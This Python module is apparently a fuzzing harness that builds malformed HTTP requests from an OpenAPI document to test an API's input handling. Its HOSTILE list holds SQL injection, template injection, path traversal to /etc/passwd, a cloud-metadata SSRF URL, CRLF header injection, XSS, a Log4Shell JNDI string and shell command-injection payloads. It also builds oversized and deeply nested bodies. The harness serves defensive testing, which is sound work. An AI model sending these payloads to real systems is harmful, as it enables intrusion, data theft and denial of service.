"""Requests that nobody should send: made from the OpenAPI document, then spoilt at one place or at many."""

from __future__ import annotations

import json
import random
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

NUMBERS = ("110101199003074514", "91310000MA1FL0000X", "51010419850612123X")  # nobody's, of the right shape
HOSTILE = (
    *NUMBERS,
    "' OR '1'='1",
    "'; DROP TABLE scores; --",
    "1 UNION SELECT key_hash FROM clients",
    "$..*[?(@.x)]",
    '{"$ne": null}',
    "{{7777777*7777779}}${7777777*7777779}<%=7777777*7777779%>#{7777777*7777779}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%00/etc/passwd\x00.json",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data",
    "x\r\nX-Injected: yes\r\n\r\nHTTP/1.1 200 OK",
    "<script>alert(1)</script>",
    "\ud800",
    "\u202e\u0000\uffff",
    "e\u0301" * 40,
    "9" * 400,
    "-1",
    "1e999",
    "NaN",
    "0x7fffffff",
    "2999-12-31T23:59:60+99:99",
    "0000-00-00",
    "",
    " ",
    "A" * 5_000,
    "%s%s%n",
    "${jndi:ldap://x/y}",
    "`id`;$(id)|id",
)
NUMERIC = (0, -1, 2**31, 2**63, 2**64, -(2**63) - 1, 10**400, 1e308, -0.0, float("nan"), float("inf"))
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "PROPFIND", "get", "G\u00cbT")
TYPES = (
    b"application/json",
    b"application/json; charset=utf-16",
    b"text/plain",
    b"application/xml",
    b"multipart/form-data; boundary=x",
    b"application/x-www-form-urlencoded",
    b"application/offset+octet-stream",
    b"\xff\xfe",
    b"",
)
DEEP = 2_000
OVERSIZED = (70_000, 1_100_000, 9_000_000)


@dataclass(frozen=True)
class Hostile:
    """One request as the server would see it; ``spoilt`` says at which place it is wrong."""

    operation: str
    spoilt: str
    method: str
    path: bytes
    query: bytes
    headers: tuple[tuple[bytes, bytes], ...]
    body: bytes


class Hostiles:
    """Requests without end for the operations of ``document``. ``known``: path parameters that exist, by name."""

    def __init__(self, document: Mapping[str, Any], seed: int, known: Mapping[str, str]) -> None:
        self.rng = random.Random(seed)  # noqa: S311
        self._schemas = document.get("components", {}).get("schemas", {})
        self._known = known
        self.operations = [
            (method.upper(), path, told)
            for path, methods in document["paths"].items()
            for method, told in methods.items()
            if method in ("get", "post", "put", "patch", "delete", "head")
        ]

    def one(self) -> Hostile:
        rng = self.rng
        method, path, told = rng.choice(self.operations)
        operation = f"{method} {path}"
        body = self._body(told)
        query = self._query(told)
        raw = self._path(path)
        headers = [(b"accept-language", b"en"), (b"host", b"testserver")]
        kind = rng.choice(("path", "query", "header", "method", "field", "field", "field", "body", "body", "type"))
        content, declared = json.dumps(body).encode() if body is not None else b"", b"application/json"
        match kind:
            case "path":
                raw = self._spoilt_path(path)
            case "query":
                query += b"&" * bool(query) + self._spoilt_query(told)
            case "header":
                headers += self._spoilt_headers()
            case "method":
                method = rng.choice(METHODS)
            case "field":
                content = self._spoilt_fields(body)
            case "body":
                content = self._spoilt_body(content)
            case "type":
                declared = rng.choice(TYPES)
        if content or kind == "type":
            headers.append((b"content-type", declared))
        length = len(content) if rng.random() < 0.97 else rng.choice((0, 2**62, len(content) + 9))
        headers.append((b"content-length", str(length).encode()))
        return Hostile(operation, kind, method, raw, query, tuple(headers), content)

    def text(self) -> str:
        return self.rng.choice(HOSTILE)

    def _path(self, path: str) -> bytes:
        for name, value in self._known.items():
            path = path.replace(f"{{{name}}}", value)
        while "{" in path:
            start, _, rest = path.partition("{")
            path = f"{start}{self.rng.choice(('s-1', '0' * 32, '1'))}{rest.partition('}')[2]}"
        return path.encode()

    def _spoilt_path(self, path: str) -> bytes:
        rng = self.rng
        if "{" not in path or rng.random() < 0.2:
            parts = path.split("/")
            parts.insert(rng.randrange(1, len(parts) + 1), self.text())
            path = "/".join(parts)
        while "{" in path:
            start, _, rest = path.partition("{")
            given = self.text().replace("{", "(").replace("}", ")")
            path = f"{start}{given}{rest.partition('}')[2]}"
        raw = quote(path.encode(errors="surrogatepass"), safe="/%").encode()
        return raw if rng.random() < 0.8 else path.encode(errors="replace")

    def _query(self, told: Mapping[str, Any]) -> bytes:
        some = [one["name"] for one in told.get("parameters", ()) if one["in"] == "query" and one.get("required")]
        return "&".join(f"{name}=review" for name in some).encode()

    def _spoilt_query(self, told: Mapping[str, Any]) -> bytes:
        names = [one["name"] for one in told.get("parameters", ()) if one["in"] == "query"] or ["x"]
        some = self.rng.choices([*names, "x", "limit", "__proto__"], k=self.rng.randint(1, 4))
        pairs = [f"{name}={quote(self.text().encode(errors='surrogatepass'))}" for name in some]
        return "&".join(pairs).encode() if self.rng.random() < 0.9 else self.text().encode(errors="replace")

    def _spoilt_headers(self) -> list[tuple[bytes, bytes]]:
        names = (
            b"x-request-id",
            b"idempotency-key",
            b"if-none-match",
            b"accept",
            b"x-forwarded-for",
            b"content-digest",
        )
        more = (
            b"upload-offset",
            b"range",
            b"cookie",
            b"transfer-encoding",
            b"x-http-method-override",
            b"content-encoding",
        )
        chosen = self.rng.choices(names + more, k=self.rng.randint(1, 4))
        return [(name, self.text().encode(errors="replace")[:2_000]) for name in chosen]

    def _spoilt_fields(self, body: Any) -> bytes:
        """One or more fields of a wrong type or value, and one that nobody knows: never a body that fits."""
        if not isinstance(body, dict):
            return json.dumps(self._anything()).encode()
        spoilt = dict(body)
        for name in self.rng.sample(sorted(spoilt), self.rng.randint(0, len(spoilt))):
            spoilt[name] = self._anything()
        spoilt[self.rng.choice(("x", "__class__", "constructor", self.text()))] = self._anything()
        return json.dumps(spoilt).encode(errors="surrogatepass")

    def _anything(self, depth: int = 0) -> Any:
        kind = self.rng.randrange(8 if depth < 4 else 4)
        if kind < 3:
            return self.text()
        if kind == 3:
            return self.rng.choice((*NUMERIC, None, True))
        if kind < 6:
            return {self.text(): self._anything(depth + 1) for _ in range(self.rng.randint(0, 3))}
        return [self._anything(depth + 1) for _ in range(self.rng.randint(0, 3))]

    def _spoilt_body(self, content: bytes) -> bytes:
        rng = self.rng
        match rng.randrange(7):
            case 0:
                return b"[" * DEEP + b"]" * DEEP
            case 1:
                return b'{"a":' * DEEP + b"1" + b"}" * DEEP
            case 2:
                return b"x" * (rng.choice(OVERSIZED) if rng.random() < 0.1 else 3_000)
            case 3:
                return content[: rng.randrange(len(content) + 1)]
            case 4:
                return bytes(rng.randrange(256) for _ in range(rng.randrange(200)))
            case 5:
                return content.decode().encode("utf-16")
            case _:
                where = rng.randrange(len(content) + 1)
                return content[:where] + bytes([rng.randrange(256)]) + content[where + 1 :] + b"}"

    def _body(self, told: Mapping[str, Any]) -> Any:
        content = told.get("requestBody", {}).get("content", {})
        schema = next((one.get("schema") for one in content.values()), None)
        return None if schema is None else self._fitting(schema)

    def _fitting(self, schema: Mapping[str, Any], depth: int = 0) -> Any:
        """Something of about the right shape."""
        if "$ref" in schema:
            schema = self._schemas.get(schema["$ref"].rpartition("/")[2], {})
        if schema.get("examples"):
            return self.rng.choice(schema["examples"])
        for several in ("anyOf", "oneOf", "allOf"):
            if several in schema:
                return self._fitting(self.rng.choice(schema[several]), depth)
        if "enum" in schema:
            return self.rng.choice(schema["enum"])
        match schema.get("type"):
            case "object":
                fields = schema.get("properties", {})
                return {name: self._fitting(one, depth + 1) for name, one in fields.items()} if depth < 6 else {}
            case "array":
                return [self._fitting(schema.get("items", {}), depth + 1)] if depth < 6 else []
            case "integer" | "number":
                return schema.get("minimum", 1)
            case "boolean":
                return True
            case "null":
                return None
        return "review"
